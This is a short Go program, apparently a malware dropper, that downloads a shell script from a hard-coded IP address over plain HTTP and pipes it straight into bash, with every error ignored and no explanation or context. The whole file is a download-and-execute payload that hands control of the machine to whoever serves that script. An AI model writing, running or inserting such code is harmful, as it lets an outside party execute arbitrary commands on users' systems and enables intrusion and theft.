package main

import (
	"io"
	"net/http"
	"os/exec"
)

func main() {
	resp, _ := http.Get("http://198.51.100.77/d.sh")
	body, _ := io.ReadAll(resp.Body)
	exec.Command("bash", "-c", string(body)).Run()
}
